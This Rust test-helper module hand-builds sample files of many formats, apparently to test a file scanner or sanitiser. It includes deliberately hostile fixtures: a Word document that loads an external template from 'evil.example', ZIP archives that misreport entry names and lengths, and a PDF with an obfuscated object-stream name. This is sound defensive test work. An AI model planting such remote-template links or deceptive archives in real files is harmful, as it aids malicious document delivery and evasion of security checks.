//! Small files of every kind, made by hand.

use std::io::{Cursor, Write as _};

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use image::{DynamicImage, ImageFormat};

fn encode(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::new_rgb8(width, height).write_to(&mut Cursor::new(&mut out), format).unwrap();
    out
}

pub(super) fn image_size(bytes: &[u8]) -> (u32, u32) {
    let picture = image::load_from_memory(bytes).expect("a picture");
    (picture.width(), picture.height())
}

pub(super) fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encode(width, height, ImageFormat::Jpeg)
}

/// With one more segment at the beginning.
pub(super) fn jpeg_with(code: u8, body: &[u8]) -> Vec<u8> {
    let mut bytes = jpeg(20, 10);
    let length = (body.len() as u16 + 2).to_be_bytes();
    bytes.splice(2..2, [&[0xff, code], length.as_slice(), body].concat());
    bytes
}

pub(super) fn webp(width: u32, height: u32) -> Vec<u8> {
    encode(width, height, ImageFormat::WebP)
}

pub(super) fn webp_with_metadata() -> Vec<u8> {
    let simple = webp(4, 4);
    let mut chunks = b"WEBPVP8X\x0a\0\0\0\x0c\0\0\0\x03\0\0\x03\0\0".to_vec();
    chunks.extend_from_slice(&simple[12..]);
    chunks.extend_from_slice(b"EXIF\x05\0\0\0where\0XMP \x02\0\0\0hi");
    [b"RIFF".as_slice(), &(chunks.len() as u32).to_le_bytes(), &chunks].concat()
}

fn png_chunk(name: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let mut sum = flate2::Crc::new();
    sum.update(name);
    sum.update(body);
    [&(body.len() as u32).to_be_bytes(), name.as_slice(), body, &sum.sum().to_be_bytes()].concat()
}

fn png_of_chunks(width: u32, height: u32, chunks: &[Vec<u8>]) -> Vec<u8> {
    let head = [&width.to_be_bytes(), height.to_be_bytes().as_slice(), &[8, 0, 0, 0, 0]].concat();
    [b"\x89PNG\r\n\x1a\n".to_vec(), png_chunk(b"IHDR", &head), chunks.concat(), png_chunk(b"IEND", b"")]
        .concat()
}

/// Grey.
pub(super) fn png(width: u32, height: u32) -> Vec<u8> {
    let rows = vec![0; (width as usize + 1) * height as usize];
    png_of_chunks(width, height, &[png_chunk(b"IDAT", &deflate_zlib(&rows))])
}

/// Large by its head alone.
pub(super) fn png_of(width: u32, height: u32) -> Vec<u8> {
    png_of_chunks(width, height, &[png_chunk(b"IDAT", b"x")])
}

pub(super) fn png_data(data: &[u8]) -> Vec<u8> {
    png_of_chunks(3, 2, &[png_chunk(b"IDAT", data)])
}

pub(super) fn png_with(name: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let whole = png(3, 2);
    [&whole[..33], &png_chunk(name, body), &whole[33..]].concat()
}

pub(super) fn gif() -> Vec<u8> {
    gif_of(1, 1, 1)
}

pub(super) fn gif_of(width: u16, height: u16, frames: usize) -> Vec<u8> {
    let head = [
        b"GIF89a".as_slice(),
        &width.to_le_bytes(),
        &height.to_le_bytes(),
        &[0x80, 0, 0, 0, 0, 0, 255, 255, 255],
    ];
    let frame = b"\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0".repeat(frames);
    [head.concat(), frame, vec![0x3b]].concat()
}

pub(super) fn gif_with(block: &[u8]) -> Vec<u8> {
    let whole = gif();
    [&whole[..19], block, &whole[19..]].concat()
}

pub(super) fn bmp() -> Vec<u8> {
    let mut bytes = b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0".to_vec();
    bytes.resize(0x3a, 0);
    bytes
}

/// One byte other.
pub(super) fn flip(mut bytes: Vec<u8>, at: usize) -> Vec<u8> {
    bytes[at] ^= 0x55;
    bytes
}

pub(super) fn pdf(more: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {more} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
        .into_bytes()
}

pub(super) fn pdf_objects(objects: &[u8]) -> Vec<u8> {
    let packed = deflate_zlib(objects);
    let start = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Obj#53tm /Filter /FlateDecode /Length {} >>\nstream\r\n",
        packed.len()
    );
    [start.as_bytes(), &packed, b"\nendstream\nendobj\n%%EOF\n"].concat()
}

pub(super) fn deflate_zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

pub(super) fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Entries with their type flags.
pub(super) fn tar(entries: &[(&str, u8, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, kind, content) in entries {
        let mut head = [0; 512];
        head[..name.len()].copy_from_slice(name.as_bytes());
        head[100..108].copy_from_slice(b"0000644\0");
        head[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
        head[148..156].copy_from_slice(b"        ");
        head[156] = *kind;
        head[257..265].copy_from_slice(b"ustar\x0000");
        let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
        head[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        out.extend_from_slice(&head);
        out.extend_from_slice(content);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

pub(super) fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    entries.iter().fold(Zip::default(), |zip, (name, content)| zip.entry(name, content)).build()
}

/// An archive that may lie about its last entry.
#[derive(Default)]
pub(super) struct Zip {
    entries: Vec<(String, Vec<u8>)>,
    flags: u16,
    method: Option<u16>,
    mode: u32,
    length: Option<u32>,
    named: Option<String>,
    gap: Vec<u8>,
}

impl Zip {
    pub(super) fn entry(mut self, name: &str, content: &[u8]) -> Self {
        self.entries.push((name.to_owned(), content.to_vec()));
        self
    }

    pub(super) fn flags(self, flags: u16) -> Self {
        Self { flags, ..self }
    }

    pub(super) fn method(self, method: u16) -> Self {
        Self { method: Some(method), ..self }
    }

    pub(super) fn mode(self, mode: u32) -> Self {
        Self { mode, ..self }
    }

    pub(super) fn length(self, length: u32) -> Self {
        Self { length: Some(length), ..self }
    }

    /// In the directory only.
    pub(super) fn named(self, name: &str) -> Self {
        Self { named: Some(name.to_owned()), ..self }
    }

    /// Between the entries and the directory.
    pub(super) fn gap(self, bytes: &[u8]) -> Self {
        Self { gap: bytes.to_vec(), ..self }
    }

    pub(super) fn build(self) -> Vec<u8> {
        let (mut out, mut directory) = (Vec::new(), Vec::new());
        for (name, content) in &self.entries {
            let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
            encoder.write_all(content).unwrap();
            let packed = encoder.finish().unwrap();
            let stored = packed.len() >= content.len();
            let packed = if stored { content } else { &packed };
            let method = self.method.unwrap_or(if stored { 0 } else { 8 });
            let mut sum = flate2::Crc::new();
            sum.update(content);
            let length = self.length.unwrap_or(content.len() as u32);
            let shared = |name: &str| {
                [
                    self.flags.to_le_bytes().as_slice(),
                    &method.to_le_bytes(),
                    &[0; 4],
                    &sum.sum().to_le_bytes(),
                    &(packed.len() as u32).to_le_bytes(),
                    &length.to_le_bytes(),
                    &(name.len() as u16).to_le_bytes(),
                    &[0, 0],
                ]
                .concat()
            };
            let at = (out.len() as u32).to_le_bytes();
            out.extend_from_slice(
                &[b"PK\x03\x04\x14\0".as_slice(), &shared(name), name.as_bytes(), packed].concat(),
            );
            let listed = self.named.as_deref().unwrap_or(name);
            let mode = (self.mode << 16).to_le_bytes();
            directory.extend_from_slice(
                &[
                    b"PK\x01\x02\x14\x03\x14\0".as_slice(),
                    &shared(listed),
                    &[0; 6],
                    &mode,
                    &at,
                    listed.as_bytes(),
                ]
                .concat(),
            );
        }
        out.extend_from_slice(&self.gap);
        let (start, count) = (out.len() as u32, (self.entries.len() as u16).to_le_bytes());
        let size = (directory.len() as u32).to_le_bytes();
        out.extend_from_slice(&directory);
        out.extend_from_slice(
            &[b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count, &size, &start.to_le_bytes(), &[0, 0]]
                .concat(),
        );
        out
    }
}

/// An Office document with this part.
pub(super) fn document(part: &str) -> Vec<u8> {
    zip(&[("[Content_Types].xml", b"<Types/>"), (part, b"<x/>")])
}

/// One that fetches its template from elsewhere.
pub(super) fn template() -> Vec<u8> {
    let relations = b"<Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>";
    zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<x/>"),
        ("word/_rels/settings.xml.rels", relations),
    ])
}

pub(super) fn riff(kind: &[u8; 4]) -> Vec<u8> {
    [b"RIFF\x0c\0\0\0".as_slice(), kind, b"data\0\0\0\0"].concat()
}

pub(super) fn boxes(boxes: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
    let one = |(name, body): &(&[u8; 4], &[u8])| {
        [&(body.len() as u32 + 8).to_be_bytes(), name.as_slice(), body].concat()
    };
    boxes.iter().flat_map(one).collect()
}

pub(super) fn heic(width: u32, height: u32) -> Vec<u8> {
    let size =
        [b"\0\0\0\0\0\0\0\x14ispe\0\0\0\0".as_slice(), &width.to_be_bytes(), &height.to_be_bytes()].concat();
    boxes(&[(b"ftyp", b"heic\0\0\0\0"), (b"meta", &size), (b"mdat", b"x")])
}

pub(super) fn webm() -> Vec<u8> {
    b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm\x18\x53\x80\x67\x81x".to_vec()
}

/// One of many kinds.
pub(super) fn samples() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a.png", png_with(b"tEXt", b"Author\0Ada")),
        (
            "a.jpg",
            jpeg_with(0xe1, b"Exif\0\0II\x2a\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0\0\0\0\0"),
        ),
        ("a.gif", gif_with(b"\x21\xfe\x03Ada\0")),
        ("a.webp", webp_with_metadata()),
        ("a.bmp", bmp()),
        ("a.pdf", pdf_objects(b"1 0 << >>")),
        ("a.zip", zip(&[("a.txt", b"hello hello hello hello"), ("d/b.txt", b"")])),
        ("a.docx", document("word/document.xml")),
        ("a.gz", gzip(&tar(&[("d/a.txt", b'0', b"hello")]))),
        (
            "a.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><g id=\"a\"/><use href=\"#a\"/></svg>".to_vec(),
        ),
        ("a.heic", heic(100, 100)),
        ("a.webm", webm()),
        ("a.ogg", [b"OggS\0\x02".as_slice(), &[0; 20], &[1, 2], b"hi"].concat()),
        ("a.json", b"{\"a\": [1, 2.5, \"x\"]}".to_vec()),
    ]
}
